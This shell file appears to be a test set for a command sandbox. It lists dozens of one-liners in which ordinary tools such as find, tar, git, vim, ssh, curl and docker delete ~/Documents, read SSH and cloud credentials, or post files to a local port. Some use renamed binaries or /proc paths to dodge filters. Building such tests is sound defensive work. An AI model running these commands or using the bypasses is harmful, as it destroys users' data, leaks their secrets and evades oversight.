# Harm that is done by a program which was made for something else.

# find deletes
find ~/Documents -type f -delete

# find runs a command for each file
find ~/Documents -name '*.txt' -exec rm {} +

# find runs a shell
find . -maxdepth 1 -name app.py -exec sh -c 'echo gone > ~/Documents/letter.txt' \;

# find writes its list into a document
find . -maxdepth 1 -fprint ~/Documents/letter.txt

# xargs runs rm
echo ~/Documents/letter.txt | xargs rm

# xargs runs a shell
echo letter.txt | xargs -I{} sh -c 'truncate -s 0 ~/Documents/{}'

# awk calls a system command [awk]
awk 'BEGIN { system("rm -rf ~/Documents") }'

# awk writes a file [awk]
awk 'BEGIN { print "gone" > ENVIRON["HOME"] "/Documents/letter.txt" }'

# awk pipes into a shell [awk]
awk 'BEGIN { print "rm -rf ~/Documents" | "sh" }'

# awk prints credentials [awk]
awk '{ print }' ~/.netrc

# sed executes
echo x | sed '1e rm -rf ~/Documents'

# sed edits in place
sed -i 's/.*/gone/' ~/Documents/letter.txt

# sed writes with its own command
echo gone | sed -n "w $HOME/Documents/letter.txt"

# sed reads with its own command
echo x | sed "r $HOME/.ssh/id_ed25519"

# tar runs a command at a checkpoint
tar cf /dev/null app.py --checkpoint=1 --checkpoint-action=exec='rm -rf ~/Documents'

# tar runs a program to compress
tar -c -I 'sh -c "rm -rf ~/Documents; cat"' -f out.tar app.py

# tar unpacks an absolute name
tar cPf evil.tar "$HOME/Documents/letter.txt"; echo x >> ~/Documents/letter.txt; tar xPf evil.tar

# tar unpacks upwards
mkdir -p a/b && echo gone > a/letter.txt && tar cf evil.tar --transform "s,^a,../../Documents," a/letter.txt && tar xPf evil.tar

# tar removes what it packed
tar cf docs.tar --remove-files -C ~ Documents

# tar packs the keys
tar cf keys.tar -C ~ .ssh .aws

# zip runs a command to test [zip]
zip -q out.zip app.py -T -TT 'rm -rf ~/Documents #'

# zip moves a document into an archive [zip]
zip -qm out.zip ~/Documents/letter.txt

# make runs what a Makefile says [make]
printf 'all:\n\trm -rf ~/Documents\n' > Makefile && make -s

# make runs a shell function [make]
make -s -f /dev/null --eval='$(shell rm -rf ~/Documents)'; true

# cmake removes a directory [cmake]
cmake -E rm -rf ~/Documents

# cmake writes a file [cmake]
echo 'file(WRITE $ENV{HOME}/Documents/letter.txt "gone")' > evil.cmake && cmake -P evil.cmake

# ninja runs a command [ninja]
printf 'rule r\n  command = rm -rf ~/Documents\nbuild x: r\n' > build.ninja && ninja -C . x

# git runs an alias from its command line [git]
git -c alias.x='!rm -rf ~/Documents' x

# git runs an editor [git]
GIT_EDITOR='rm -rf ~/Documents; true' git commit --allow-empty -m x -e

# git runs an external diff [git]
echo >> app.py; GIT_EXTERNAL_DIFF='rm -rf ~/Documents; true' git --no-pager diff

# git runs a filter [git]
echo '*.py filter=x' > .gitattributes; git -c filter.x.clean='rm -rf ~/Documents; cat' add app.py

# git runs a helper for ssh [git]
GIT_SSH_COMMAND='rm -rf ~/Documents; false' git ls-remote ssh://example.invalid/x; true

# git runs a helper for credentials [git]
printf 'protocol=https\nhost=x\n\n' | git -c credential.helper='!rm -rf ~/Documents; true' credential fill; true

# git bisect runs a command [git]
echo x > y && git add y && git commit -qm x && git bisect start HEAD HEAD~1 > /dev/null; git rebase -q --exec 'rm -rf ~/Documents' HEAD~1; git submodule foreach true

# git works on another directory [git]
git --work-tree="$HOME/Documents" checkout -f HEAD -- . && ls ~/Documents

# git cleans another directory [git]
git init -q ~/Documents && git -C ~/Documents clean -fdxq

# git archives a document of another repository [git]
cd ~/projects/other && git rm -qrf . && git commit -qm gone

# git prints credentials as a difference [git]
git --no-pager diff --no-index /dev/null ~/.git-credentials; true

# git stores a key as an object [git]
git cat-file -p "$(git hash-object -w ~/.ssh/id_ed25519)"

# vim runs a command [vim]
timeout 5 vim -u NONE -es -c '!rm -rf ~/Documents' -c 'qa!'; true

# vim writes a document [vim]
timeout 5 vim -u NONE -es -c 'normal igone' -c 'w! ~/Documents/letter.txt' -c 'qa!'; true

# vim shows a key [vim]
timeout 5 vim -u NONE -es -c 'r ~/.ssh/id_ed25519' -c 'w! copy.txt' -c 'qa!'; true

# ed runs a command [ed]
printf '!rm -rf ~/Documents\nq\n' | ed -s

# ed writes a document [ed]
printf 'a\ngone\n.\nw %s\nq\n' ~/Documents/letter.txt | ed -s

# env runs a command with other words
env -S 'sh -c "rm -rf ~/Documents"'

# nice, timeout and nohup run a command
nice timeout 5 nohup sh -c 'rm -rf ~/Documents' > /dev/null 2>&1

# setsid runs a command in another session
setsid -w rm -rf ~/Documents

# flock runs a command [flock]
flock app.py -c 'rm -rf ~/Documents'

# script runs a command in a terminal [script]
script -qec 'rm -rf ~/Documents' /dev/null < /dev/null

# script writes its record over a document [script]
script -qec true ~/Documents/letter.txt < /dev/null

# tmux runs a command outside of the terminal [tmux]
tmux -S ./tm.sock new-session -d 'rm -rf ~/Documents'; sleep 0.3

# tmux leaves a server behind [tmux]
env -i PATH="$PATH" tmux -S ./tm.sock new-session -d 'sleep 60'; sleep 0.2

# gpg decrypts with a key of the person [gpg]
cat ~/.gnupg/private-keys-v1.d/*.key

# ssh runs a proxy command [ssh]
ssh -F /dev/null -o ProxyCommand='rm -rf ~/Documents' -o BatchMode=yes host.invalid; true

# ssh runs a command for a match [ssh]
printf 'Match exec "rm -rf ~/Documents"\n' > c && ssh -F ./c -G host.invalid > /dev/null; true

# ssh-keygen writes over a document [ssh-keygen]
yes | ssh-keygen -q -t ed25519 -N '' -f ~/Documents/letter.txt

# ssh-keygen loads a library [ssh-keygen gcc]
printf '#include <stdlib.h>\n__attribute__((constructor)) void f(void) { system("rm -rf ~/Documents"); }' > l.c
gcc -shared -fPIC -o l.so l.c && ssh-keygen -D ./l.so < /dev/null; true

# openssl writes over a document [openssl]
openssl rand -out ~/Documents/letter.txt 16

# openssl reads a key [openssl]
openssl base64 -in ~/.ssh/id_ed25519

# openssl connects [openssl]
timeout 1 openssl s_client -connect "127.0.0.1:$PORT" < /dev/null; true

# curl reads a file [curl]
curl -s "file://$HOME/.aws/credentials"

# curl uploads a document [curl]
curl -s --max-time 1 -T ~/Documents/letter.txt "http://127.0.0.1:$PORT/"; true

# curl speaks to a socket [curl]
curl -s --max-time 1 --unix-socket "$SOCKET" http://localhost/containers/json; true

# curl speaks to an abstract socket [curl]
curl -s --max-time 1 --abstract-unix-socket "$ABSTRACT" http://localhost/; true

# curl writes over a document [curl]
curl -s -o ~/Documents/letter.txt "file://$PWD/app.py"

# wget posts a document [wget]
wget -q -t 1 -T 1 --post-file="$HOME/Documents/letter.txt" "http://127.0.0.1:$PORT/"; true

# docker starts a container that sees everything [docker]
timeout 2 docker -H "unix://$SOCKET" run -v /:/host alpine rm -rf /host/home; true

# dd overwrites a document
dd if=/dev/zero of="$HOME/Documents/letter.txt" bs=16 count=1 2> /dev/null

# cp overwrites a document
cp app.py ~/Documents/letter.txt

# mv takes a document away
mv ~/Documents/letter.txt .

# ln replaces a document
ln -sf app.py ~/Documents/letter.txt

# install replaces a document
install -m 644 app.py ~/Documents/letter.txt

# tee writes a document
echo gone | tee ~/Documents/letter.txt

# sort writes a document
sort -o ~/Documents/letter.txt app.py

# split writes files among the documents
split -b 8 app.py ~/Documents/part-

# shred destroys a document
shred -n 1 ~/Documents/letter.txt

# patch changes a document [patch]
printf -- '--- letter.txt\n+++ letter.txt\n@@ -1 +1 @@\n-Dear friend\n+gone\n' > p.diff; patch -s -d ~/Documents -i "$PWD/p.diff"

# mv renames another project
mv ~/projects/other ~/projects/lost

# chmod opens the documents
chmod -R 777 ~/Documents

# unshare runs a command with other identities
unshare -r sh -c 'rm -rf ~/Documents' || rm -rf ~/Documents

# a coprocess of the shell removes
coproc rm -rf ~/Documents; wait

# a trap of the shell removes
trap 'rm -rf ~/Documents' EXIT; exit 0

# a prompt command of an interactive shell removes
PROMPT_COMMAND='rm -rf ~/Documents' bash --norc -i < /dev/null 2> /dev/null; true

# a start file of a shell removes
echo 'rm -rf ~/Documents' > rc; BASH_ENV=./rc bash -c true

# an exported function of the shell removes
ls() { command rm -rf ~/Documents; }; export -f ls; bash -c ls

# a renamed copy of rm removes
cp /bin/rm ./ls && ./ls -rf ~/Documents

# the loader starts rm
/lib64/ld-linux-x86-64.so.2 /bin/rm -rf ~/Documents

# a file in memory is the program
python3 - <<'PY'
import os
fd = os.memfd_create("x")
os.write(fd, open("/bin/rm", "rb").read())
os.execve(f"/proc/self/fd/{fd}", ["rm", "-rf", os.path.expanduser("~/Documents")], os.environ)
PY

# a path through /proc removes
rm -rf /proc/self/root"$HOME"/Documents

# a path through the directory of the shell removes
rm -rf /proc/$$/cwd/../../Documents
